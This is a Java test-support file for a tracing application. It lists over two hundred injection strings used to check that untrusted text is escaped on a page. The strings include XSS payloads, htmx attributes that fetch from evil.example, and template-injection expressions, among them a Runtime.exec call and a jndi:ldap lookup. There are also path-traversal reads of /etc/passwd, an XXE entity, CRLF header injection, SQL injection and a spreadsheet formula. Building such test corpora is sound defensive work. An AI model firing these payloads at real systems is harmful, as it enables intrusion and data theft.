package dev.skep.domain.trace;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/// Texts that a sender might choose to break out of a page: markup, handlers, addresses,
/// expressions of template engines, attributes of htmx, and what confuses readers or parsers. Each
/// that could run opens a dialog or asks another host, so that a browser shows it.
public final class HostileTexts {
  private static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT>alert(1)</SCRIPT>",
          "<script src=//evil.example/x.js></script>",
          "\"><script>alert(1)</script>",
          "'><script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "</title><script>alert(1)</script>",
          "</textarea></select><b>",
          "</style><script>alert(1)</script>",
          "</noscript><script>alert(1)</script>",
          "</td></tr></table><script>alert(1)</script>",
          "</svg><script>alert(1)</script>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<script\n>alert(1)</script\n>",
          "<script/x>alert(1)</script/x>",
          "<<script>alert(1)//<</script>",
          "\"><img src=x onerror=alert(1)>",
          "<img src=x onerror=alert(1)//",
          "<img src=//evil.example/pixel.png>",
          "<img srcset=//evil.example/pixel.png>",
          "<img src='x' onerror='alert(1)'>",
          "<img/src=x/onerror=alert(1)>",
          "<image href=//evil.example/x>",
          "'><svg onload=alert(1)>",
          "<svg/onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><script href=//evil.example/x.js /></svg>",
          "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
          "<svg><use href=//evil.example/x.svg#x /></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><set attributeName=href to=javascript:alert(1)>",
          "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
          "<svg><style>@import \"//evil.example/x.css\"</style></svg>",
          "<math><mi//xlink:href=\"data:x\">",
          "<math href=\"javascript:alert(1)\">x</math>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
          "<iframe src=//evil.example></iframe>",
          "<object data=//evil.example></object>",
          "<embed src=//evil.example>",
          "<applet code=x>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<link rel=prefetch href=//evil.example/x>",
          "<style>@import \"//evil.example/x.css\"</style>",
          "<style>*{background:url(//evil.example/x)}</style>",
          "<form action=//evil.example><button>x</button></form>",
          "<button formaction=//evil.example>x</button>",
          "<input autofocus onfocus=alert(1)>",
          "<isindex action=javascript:alert(1)>",
          "<template><b></template>",
          "<slot name=x>",
          "<dialog open><b>x</b></dialog>",
          "<details open ontoggle=alert(1)>",
          "<video><source onerror=alert(1)></video>",
          "<audio src=x onerror=alert(1)>",
          "<video poster=//evil.example/x>",
          "<track src=//evil.example/x default>",
          "<marquee onstart=alert(1)>",
          "<body onload=alert(1)>",
          "<html onclick=alert(1)>",
          "<frameset onload=alert(1)>",
          "<table background=//evil.example/x>",
          "<a href=//evil.example data-copy=x>x</a>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href=# ping=//evil.example>x</a>",
          "<area href=javascript:alert(1)>",
          "<portal src=//evil.example>",
          "<plaintext>",
          "<xmp><script>alert(1)</script></xmp>",
          "<noembed><img src=x onerror=alert(1)></noembed>",
          "<custom-element onclick=alert(1)>",
          "<b",
          "<b x=\"",
          "</b",
          "<",
          ">",
          "\"",
          "'",
          "`",
          "&",
          "<?xml version=\"1.0\"?>",
          "<?php echo 1 ?>",
          "<!DOCTYPE html>",
          "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
          "<!--",
          "<!-->",
          "<!--->",
          "-->",
          "--><b>",
          "--!><img src=x onerror=alert(1)>",
          "<!--[if IE]><script>alert(1)</script><![endif]-->",
          "<![CDATA[<b>]]>",
          "]]>",
          "<%= 7*7 %>");

  private static final List<String> ATTRIBUTES =
      List.of(
          "\" onfocus=alert(1) autofocus \"",
          "' onmouseover=alert(1) '",
          "` onmouseover=alert(1) `",
          "\" style=\"background:url(//evil.example/x)\"",
          "\" style=\"animation-name:x\" onanimationstart=\"alert(1)\"",
          "\" class=\"topbar\" id=\"main\"",
          "\" id=\"span\" hx-swap-oob=\"true\"",
          "\" accesskey=\"x\" onclick=\"alert(1)\"",
          "\" formaction=\"//evil.example\"",
          "\" srcdoc=\"<script>alert(1)</script>\"",
          "x\" tabindex=1 onfocus=\"alert(1)\" x=\"",
          "x' onclick='alert(1)",
          "x onclick=alert(1)",
          "\" data-copy=\"x\" hidden=\"",
          "\" aria-hidden=\"true\" role=\"none");

  private static final List<String> HANDLERS =
      List.of(
          "onclick",
          "ondblclick",
          "onerror",
          "onload",
          "onmouseenter",
          "onpointerdown",
          "onpointerrawupdate",
          "onfocusin",
          "onblur",
          "onkeydown",
          "onwheel",
          "onscroll",
          "onscrollend",
          "ontransitionend",
          "onanimationend",
          "onbeforeinput",
          "oncopy",
          "ondrag",
          "onauxclick",
          "oncontentvisibilityautostatechange",
          "onbeforematch",
          "ontouchstart");

  private static final List<String> HTMX =
      List.of(
          "hx-get",
          "hx-post",
          "hx-put",
          "hx-delete",
          "hx-on::load",
          "hx-on:click",
          "hx-vals",
          "hx-headers",
          "hx-ext",
          "hx-boost",
          "hx-push-url",
          "hx-select-oob",
          "hx-include",
          "hx-preserve",
          "data-hx-get");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "java\tscript:alert(1)",
          "\u0001javascript:alert(1)",
          "javascript://x%0aalert(1)",
          "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/",
          "vbscript:msgbox(1)",
          "data:text/html,<script>alert(1)</script>",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "data:image/svg+xml,<svg onload=alert(1)>",
          "blob:null/x",
          "file:///etc/passwd",
          "view-source:x",
          "//evil.example",
          "\\\\evil.example",
          "/\\evil.example",
          "https:evil.example",
          "http://evil.example@localhost/",
          "https://evil.example/\"onmouseover=\"alert(1)",
          "../../etc/passwd",
          "..%2f..%2fetc%2fpasswd",
          "?next=//evil.example",
          "#\"><img src=x onerror=alert(1)>");

  private static final List<String> EXPRESSIONS =
      List.of(
          "${7*7}",
          "*{7*7}",
          "#{7*7}",
          "@{/x}",
          "~{layout}",
          "__${7*7}__::.x",
          "[[${7*7}]]",
          "[(${7*7})]",
          "${T(java.lang.Runtime).getRuntime().exec(\"id\")}",
          "${#ctx}",
          "{{7*7}}",
          "{%7*7%}",
          "%{7*7}",
          "#set($x=7*7)$x",
          "<#assign x=7*7>${x}",
          "<p th:text=\"${7*7}\">",
          "<p th:utext=\"${7*7}\">",
          "<p data-th-text=\"${7*7}\">",
          "${jndi:ldap://evil.example/x}",
          "`${alert(1)}`",
          "${alert(1)}",
          "{{constructor.constructor(\"alert(1)\")()}}",
          "<%=7*7%>",
          "$(id)",
          "`id`",
          "%n%s%x");

  private static final List<String> CONFUSION =
      List.of(
          "&lt;b&gt; &amp; &#60;b&#62;",
          "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
          "\\x3cscript\\x3ealert(1)",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
          "\u202e\u2066<b>\u2069",
          "\u2028<b>\u2029",
          "\u200b\u200d\ufeff<b>",
          "\u0008\u001b[2J<b>",
          "\u0000<script>alert(1)</script>",
          "a\r\nSet-Cookie: x=1",
          "a\r\n\r\n<script>alert(1)</script>",
          "a\tb\u000bc",
          "' OR 1=1 --",
          "\"; DROP TABLE spans; --",
          "a') OR 1=1--",
          "%_\\",
          "\"*\" OR x:y",
          "{ } && !",
          "null",
          "undefined",
          "__proto__",
          "constructor",
          "NaN",
          "-0",
          " ",
          "\ud83d\udc1d\u0301\u0301\u0301\u0301",
          "=cmd|' /C calc'!A0",
          "{\"a\":\"<b>\"}");

  private HostileTexts() {}

  /// More than two hundred, all different, none empty.
  public static List<String> all() {
    Set<String> texts = new LinkedHashSet<>(MARKUP);
    texts.addAll(ATTRIBUTES);
    for (String handler : HANDLERS) {
      texts.add("\" " + handler + "=\"alert(1)");
    }
    for (String attribute : HTMX) {
      texts.add("<div " + attribute + "=//evil.example/x hx-trigger=load>");
      texts.add("\" " + attribute + "=\"//evil.example/x\" hx-trigger=\"load");
    }
    texts.addAll(ADDRESSES);
    texts.addAll(EXPRESSIONS);
    texts.addAll(CONFUSION);
    return new ArrayList<>(texts);
  }

  /// As much of a text as an id may hold.
  public static String id(String text) {
    return text.substring(0, Math.min(text.length(), TraceId.MAX_LENGTH));
  }
}
